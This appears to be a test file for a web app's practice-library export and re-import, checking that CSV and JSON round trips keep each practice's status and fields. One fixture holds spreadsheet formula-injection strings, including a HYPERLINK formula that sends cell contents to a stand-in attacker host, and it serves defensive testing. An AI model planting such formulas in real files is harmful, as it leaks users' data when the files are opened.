/**
 * An export is a backup and a way to move a library: the coordinator's CSV or JSON export, uploaded into another
 * programme with partners of the same names, must bring back every practice with its status and fields.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { aPartner, anOrganisation, valueOf } from '../../../core/testing/factories.js';
import { readPage } from '../../../core/testing/http.js';
import { aPracticeInput, type FormBody } from '../../../core/testing/records.js';
import { useWorld } from '../../../core/testing/world.js';
import { practiceSchema } from '../schema.js';
import { changeStatus, createPractice, getPractice, proposePractice, type TransitionName } from '../library/service.js';
import { practiceFormValues } from '../library/views/PracticeFormPage.js';

const fixture = useWorld();
let hostileId = 0;

/** A practice with every kind of field filled, a contact and an Italian title: what an export must carry across. */
function practice(title: string, ownerPartnerId: number, overrides: FormBody = {}) {
  return aPracticeInput(ownerPartnerId, {
    title,
    summary: `${title}: carried across, with a comma; a semicolon and "quotes".`,
    themes: ['digital-services', 'payments'],
    keywords: 'roundtrip\nbackup',
    resourcesEur: '1200.50',
    contactName: 'Projects office',
    contactEmail: 'projects@example.org',
    title_it: `${title} (italiano)`,
    ...overrides,
  });
}

beforeAll(async () => {
  const { db } = fixture.context;
  const { partnerA, partnerB, organisationA, otherProgramme, users } = fixture.world;
  const created = async (title: string, ...steps: TransitionName[]) => {
    const { id } = valueOf(await createPractice(db, users.coordinator.actor, practice(title, partnerA.id)));
    for (const step of steps) valueOf(await changeStatus(db, users.coordinator.actor, id, step));
  };
  await created('Roundtrip draft');
  await created('Roundtrip submitted', 'submit');
  await created('Roundtrip returned', 'submit', 'return');
  await created('Roundtrip published', 'publish');
  valueOf(await proposePractice(db, users.stakeholderA.actor, practice('Roundtrip proposed', partnerA.id)));
  const declined = valueOf(await proposePractice(db, users.stakeholderA.actor, practice('Roundtrip declined', partnerA.id)));
  valueOf(await changeStatus(db, users.coordinator.actor, declined.id, 'decline'));
  valueOf(await createPractice(db, users.coordinator.actor, practice('Roundtrip of the second partner', partnerB.id)));
  // Texts a spreadsheet would run as formulas, and texts already starting with the apostrophe that neutralises them.
  const hostile = practice('=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")', partnerB.id, {
    summary: "'=1+1 is how a formula starts; '' too",
    objective: '@everyone -2+3',
    contactName: '+Projects office',
    title_it: "''=Roundtrip",
    // Lists whose items hold the separators a cell is read with.
    keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'],
    links: ['https://example.org/page;jsessionid=1', 'https://example.org/a,b'],
  });
  hostileId = valueOf(await createPractice(db, users.coordinator.actor, hostile)).id;

  // The other programme has partners (and a stakeholder organisation) with the same names.
  const twinA = await aPartner(db, otherProgramme.id, { name: partnerA.name, shortName: partnerA.shortName });
  await aPartner(db, otherProgramme.id, { name: partnerB.name, shortName: partnerB.shortName, countryCode: 'EE', nutsCode: 'EE00', nutsName: 'Eesti' });
  await anOrganisation(db, twinA.id, { name: organisationA.name });
});

/** The export's records without the fields that name this installation's rows (id and address). */
function portable(records: Record<string, unknown>[]) {
  return records.map(({ id: _id, url: _url, ...record }) => record).sort((a, b) => String(a.title).localeCompare(String(b.title)));
}

/** A programme's practices as its coordinator exports them (the library also lists other programmes' published ones). */
async function exported(role: 'coordinator' | 'otherCoordinator', format: 'csv' | 'json') {
  const programmeId = role === 'coordinator' ? fixture.world.programme.id : fixture.world.otherProgramme.id;
  const partners = await fixture.context.db.selectFrom('partners').select('id').where('programme_id', '=', programmeId).execute();
  const browser = await fixture.browserFor(role);
  return (await browser.get(`/practices/export.${format}?q=roundtrip&${partners.map(({ id }) => `partner=${id}`).join('&')}`)).body;
}

async function exportedRecords(role: 'coordinator' | 'otherCoordinator') {
  return portable(JSON.parse(await exported(role, 'json')) as Record<string, unknown>[]);
}

async function clearOtherProgramme() {
  await fixture.context.db.deleteFrom('practices').where('programme_id', '=', fixture.world.otherProgramme.id).execute();
}

describe("re-importing the coordinator's export into another programme", () => {
  it.each(['csv', 'json'] as const)('brings back every practice from the %s file with its status and fields', async (format) => {
    await clearOtherProgramme();
    const original = await exportedRecords('coordinator');
    expect(original.map((record) => record.status)).toEqual(['draft', 'declined', 'draft', 'draft', 'proposed', 'published', 'returned', 'submitted']);
    expect(original[0]).toMatchObject({
      title: '=HYPERLINK("http://evil.example/?d="&A1,"Roundtrip")',
      summary: "'=1+1 is how a formula starts; '' too",
      keywords: ['e-government, open government', 'smart city; data', 'roundtrip', 'C:\\back\\slash'],
    });

    const importer = await fixture.browserFor('otherCoordinator');
    const upload = {
      file: { filename: `library.${format}`, content: await exported('coordinator', format), contentType: format === 'csv' ? 'text/csv' : 'application/json' },
    };
    const page = readPage(await importer.upload('/practices/import', upload, { programmeId: String(fixture.world.otherProgramme.id) }));
    expect(page.screen.getByRole('heading', { level: 1 }).textContent).toBe('8 practices imported');

    expect(await exportedRecords('otherCoordinator')).toEqual(original);
  });
});

describe('editing a practice in the form', () => {
  it('keeps a keyword that holds a comma, and a link that holds a semicolon, as one', async () => {
    const practice = await getPractice(fixture.context.db, fixture.world.users.coordinator.actor, hostileId);
    if (!practice) throw new Error('the practice is missing');
    const input = practiceSchema.parse(practiceFormValues(practice));
    expect(input.keywords).toEqual(practice.keywords);
    expect(input.links).toEqual(practice.links);
  });
});
